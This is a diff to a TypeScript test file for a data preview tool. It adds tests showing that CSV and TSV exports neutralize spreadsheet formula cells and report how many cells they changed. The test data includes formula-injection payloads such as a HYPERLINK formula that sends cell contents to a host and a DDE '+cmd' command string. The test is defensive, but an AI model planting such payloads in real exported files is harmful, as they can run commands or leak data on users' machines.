@@ -2,6 +2,7 @@
 import assert from 'node:assert/strict';
 import { readdir, readFile, writeFile } from 'node:fs/promises';
 import type { Filter, View } from '../../../../src/engine/insight/preview/api';
+import { quoteLiteral } from '../../../../src/engine/base';
 import { indentJson } from '../../../../src/engine/insight/preview/indent';
 import { failure, PLAIN, usePreviews, withConnection } from './previewFixture';
 
@@ -165,7 +166,7 @@ describe('an opened preview', () => {
           { view: PLAIN, offset: 0, limit: 100, columns, format, header: true },
           {},
         );
-        assert.deepEqual(copied, { text, rows: 2 });
+        assert.deepEqual(copied, { text, rows: 2, neutralized: 0 });
       });
 
     it('whole values, many rows in the order of the view, and refuses what is too much', async () => {
@@ -224,6 +225,68 @@ describe('an opened preview', () => {
         assert.equal(found.rows.length, 3000);
         assert.deepEqual((await readdir(folder())).sort(), ['a.parquet', `o'ut *.${format}`]);
       });
+
+    /** Cells, whether a spreadsheet would compute them, and what a person's CSV has of them. */
+    const CELLS: readonly (readonly [string, string])[] = [
+      ['=1+1', "'=1+1"],
+      ['=HYPERLINK("http://x/?"&A1)', `'=HYPERLINK("http://x/?"&A1)`],
+      ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
+      ['-1+1', "'-1+1"],
+      ['@SUM(A1)', "'@SUM(A1)"],
+      ['  =1+1', "'  =1+1"],
+      ['\u00a0\u200b=1+1', "'\u00a0\u200b=1+1"],
+      ['\tx', "'\tx"],
+      ['\rx', "'\rx"],
+      ['＝1+1', "'＝1+1"],
+      ['－1+1', "'－1+1"],
+      ['+49 30 1234', "'+49 30 1234"],
+      ['-', '-'],
+      ['-5.2', '-5.2'],
+      ['+49301234', '+49301234'],
+      ['-1,000.5e-3', '-1,000.5e-3'],
+      ['-12 %', '-12 %'],
+      ["'=1", "'=1"],
+      ['a=1', 'a=1'],
+      ['', ''],
+    ];
+    it('CSV for people: nothing in it is computed by a spreadsheet, and it says how many cells it changed', async () => {
+      const values = CELLS.map(([cell], i) => `(${i}, ${quoteLiteral(cell)}, -${i})`).join(', ');
+      const { session } = await open(
+        await writeParquet('a.parquet', `SELECT * FROM (VALUES ${values}) t(i, "=name", n) ORDER BY i`),
+      );
+      const changed = CELLS.filter(([cell, shown]) => cell !== shown).length + 1;
+      const request = { view: PLAIN, format: 'csv', target: at('out.csv') } as const;
+      const exactly = async (work: () => Promise<{ readonly neutralized: number }>): Promise<number> =>
+        (await work()).neutralized;
+      const readBack = (text: string): unknown =>
+        withConnection(folder(), async (connection) => {
+          await writeFile(at('back.csv'), text);
+          const { rows: found, columns: names } = await connection.table(
+            `SELECT * FROM read_csv('${at('back.csv')}', all_varchar = true, header = true, delim = ',', quote = '"', escape = '"', strict_mode = false)`,
+          );
+          return [names[1]?.name, ...found.map((row) => row[1] ?? '')];
+        });
+      assert.equal(await exactly(() => session.export(request, {})), changed);
+      const safe = ["'=name", ...CELLS.map(([, shown]) => shown)];
+      assert.deepEqual(await readBack(await readFile(at('out.csv'), 'utf8')), safe);
+      assert.equal(await exactly(() => session.export({ ...request, exact: true }, {})), 0);
+      const asIs = ['=name', ...CELLS.map(([cell]) => cell)];
+      assert.deepEqual(await readBack(await readFile(at('out.csv'), 'utf8')), asIs);
+      const copy = {
+        view: PLAIN,
+        offset: 0,
+        limit: 100,
+        columns: ['i', '=name', 'n'],
+        header: true,
+      } as const;
+      const copied = await session.copy({ ...copy, format: 'csv' }, {});
+      assert.equal(copied.neutralized, changed);
+      assert.deepEqual(await readBack(copied.text), safe);
+      assert.equal((await session.copy({ ...copy, format: 'tsv' }, {})).neutralized, changed);
+      const exact = await session.copy({ ...copy, format: 'csv', exact: true }, {});
+      assert.equal(exact.neutralized, 0);
+      assert.deepEqual(await readBack(exact.text), asIs);
+    });
 
     it('Markdown, text files, queries', async () => {
       await writeFile(at('a.csv'), 'id,name\n1,a\n2,b,c\n3,d\n');
